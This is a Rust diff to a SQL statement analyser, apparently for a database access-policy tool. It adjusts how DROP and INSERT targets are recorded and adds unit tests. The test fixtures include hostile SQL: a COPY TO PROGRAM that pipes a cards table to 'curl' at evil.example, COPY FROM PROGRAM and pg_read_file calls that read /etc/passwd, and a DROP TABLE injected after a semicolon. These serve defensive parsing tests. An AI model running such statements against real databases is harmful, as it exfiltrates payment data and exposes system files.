@@ -131,8 +131,11 @@ impl Visitor for Facts {
         if let Some(w) = write_of(statement) {
             self.writes.push(w);
         }
-        if let Statement::Call(f) = statement {
-            self.functions.push(object_name(&f.name));
+        match statement {
+            Statement::Call(f) => self.functions.push(object_name(&f.name)),
+            // The visitor does not treat dropped objects as relations; policies need them.
+            Statement::Drop { names, .. } => self.relations.extend(names.iter().map(object_name)),
+            _ => {}
         }
         ControlFlow::Continue(())
     }
@@ -140,7 +143,13 @@ impl Visitor for Facts {
 
 fn write_of(statement: &Statement) -> Option<SqlWrite> {
     let (kind, table, has_where) = match statement {
-        Statement::Insert(i) => ("insert", i.table.to_string(), true),
+        Statement::Insert(i) => {
+            let table = match &i.table {
+                ast::TableObject::TableName(name) => object_name(name),
+                other => other.to_string(),
+            };
+            ("insert", table, true)
+        }
         Statement::Update(u) => ("update", first_table(&u.table), u.selection.is_some()),
         Statement::Delete(d) => {
             let from = match &d.from {
@@ -152,7 +161,7 @@ fn write_of(statement: &Statement) -> Option<SqlWrite> {
         Statement::Merge(m) => ("merge", table_factor_name(&m.table), true),
         _ => return None,
     };
-    Some(SqlWrite { kind: kind.to_string(), table: normalise_rendered(&table), has_where })
+    Some(SqlWrite { kind: kind.to_string(), table, has_where })
 }
 
 fn first_table(t: &ast::TableWithJoins) -> String {
@@ -163,14 +172,6 @@ fn table_factor_name(t: &ast::TableFactor) -> String {
     match t {
         ast::TableFactor::Table { name, .. } => object_name(name),
         other => other.to_string(),
-    }
-}
-
-/// `INSERT INTO "Cards"` renders as `"Cards"`: apply the same folding as identifiers.
-fn normalise_rendered(name: &str) -> String {
-    match Parser::new(&PostgreSqlDialect {}).try_with_sql(name).and_then(|mut p| p.parse_object_name(false)) {
-        Ok(n) => object_name(&n),
-        Err(_) => name.to_string(),
     }
 }
 
@@ -300,5 +301,114 @@ impl LineOffsets {
         let rest = &text[line_start..];
         let col = (column as usize).saturating_sub(1);
         line_start + rest.char_indices().nth(col).map_or(rest.len(), |(i, _)| i)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+
+    fn one(text: &str) -> Sql {
+        let mut v = parse(text);
+        assert_eq!(v.len(), 1, "{text}: {v:?}");
+        v.remove(0)
+    }
+
+    #[test]
+    fn splits_at_top_level_semicolons_only() {
+        let v = parse("SELECT 'a;b'; /* ; */ SELECT $$x;y$$ ;; -- trailing ;\n SELECT \"c;d\" FROM t");
+        let texts: Vec<_> = v.iter().map(|s| s.text.as_str()).collect();
+        assert_eq!(texts, ["SELECT 'a;b'", "/* ; */ SELECT $$x;y$$", "-- trailing ;\n SELECT \"c;d\" FROM t"]);
+        assert!(v.iter().all(|s| s.parse_error.is_none()), "{v:?}");
+        assert!(parse("  -- only a comment\n").is_empty());
+        assert!(parse("").is_empty());
+    }
+
+    #[test]
+    fn kinds_tables_and_filters() {
+        let s = one("select name, pan from public.cards c join Owners o on o.id = c.owner where c.id = 1 limit 10");
+        assert_eq!(s.kind, "select");
+        assert_eq!(s.tables, ["public.cards", "owners"]);
+        assert!(s.has_where);
+        assert_eq!(s.limit, Some(10));
+
+        let s = one("SELECT * FROM \"Cards\" FETCH FIRST 5 ROWS ONLY");
+        assert_eq!(s.tables, ["Cards"]);
+        assert_eq!(s.limit, Some(5));
+        assert!(!s.has_where);
+        assert_eq!(one("SELECT * FROM cards LIMIT ALL").limit, None);
+        assert_eq!(one("SELECT * FROM cards LIMIT $1").limit, None);
+
+        for (sql, kind) in [
+            ("dRoP tAbLe cards", "drop"),
+            ("TRUNCATE cards", "truncate"),
+            ("ALTER TABLE cards ADD COLUMN x int", "alter"),
+            ("GRANT SELECT ON cards TO bob", "grant"),
+            ("REVOKE SELECT ON cards FROM bob", "revoke"),
+            ("CREATE TABLE t (id int)", "create"),
+            ("BEGIN", "begin"),
+            ("COMMIT", "commit"),
+            ("ROLLBACK", "rollback"),
+            ("SET search_path = x", "set"),
+            ("SHOW search_path", "show"),
+            ("EXPLAIN SELECT 1", "explain"),
+            ("INSERT INTO cards (pan) VALUES ('x')", "insert"),
+        ] {
+            assert_eq!(one(sql).kind, kind, "{sql}");
+        }
+        assert_eq!(one("DROP TABLE cards").tables, ["cards"]);
+    }
+
+    #[test]
+    fn writes_are_found_in_ctes_and_keep_their_where() {
+        let s = one("WITH gone AS (DELETE FROM cards RETURNING *) SELECT * FROM gone");
+        assert_eq!(s.kind, "select");
+        assert_eq!(s.tables, ["cards"], "CTE names are not tables");
+        assert_eq!(s.writes.len(), 1);
+        assert_eq!(s.writes[0].kind, "delete");
+        assert_eq!(s.writes[0].table, "cards");
+        assert!(!s.writes[0].has_where);
+
+        let s = one("UPDATE cards SET pan = NULL WHERE id = 3");
+        assert_eq!((s.writes[0].kind.as_str(), s.writes[0].has_where, s.has_where), ("update", true, true));
+        let s = one("DELETE FROM \"Cards\"");
+        assert_eq!((s.writes[0].table.as_str(), s.writes[0].has_where), ("Cards", false));
+        let s = one("INSERT INTO Public.Cards SELECT * FROM staging");
+        assert_eq!(s.writes[0].table, "public.cards");
+        assert_eq!(s.tables, ["public.cards", "staging"]);
+    }
+
+    #[test]
+    fn copy_and_functions() {
+        let s = one("COPY cards TO PROGRAM 'curl -d @- evil.example'");
+        assert_eq!(s.kind, "copy");
+        let copy = s.copy.unwrap();
+        assert!(!copy.is_from);
+        assert_eq!(copy.target, CopyTarget::Program("curl -d @- evil.example".into()));
+        let s = one("COPY cards FROM PROGRAM 'cat /etc/passwd'");
+        assert!(s.copy.unwrap().is_from);
+        let s = one("COPY (SELECT pan FROM cards) TO STDOUT");
+        assert_eq!(s.copy.unwrap().target, CopyTarget::Stdio);
+        assert_eq!(s.tables, ["cards"]);
+
+        let s = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM cards");
+        assert_eq!(s.functions, ["pg_read_file", "lower"]);
+    }
+
+    #[test]
+    fn string_literals_are_not_statements_and_bad_sql_is_flagged() {
+        let s = one("SELECT 'DROP TABLE cards' AS note");
+        assert_eq!(s.kind, "select");
+        assert!(s.tables.is_empty());
+
+        let v = parse("SELECT 1; DROP TABLE cards; SELEC oops");
+        assert_eq!(v.len(), 3);
+        assert_eq!(v[1].kind, "drop");
+        assert_eq!(v[2].kind, "unknown");
+        assert!(v[2].parse_error.is_some());
+
+        let s = one("SELECT 'unterminated");
+        assert!(s.parse_error.is_some());
     }
 }
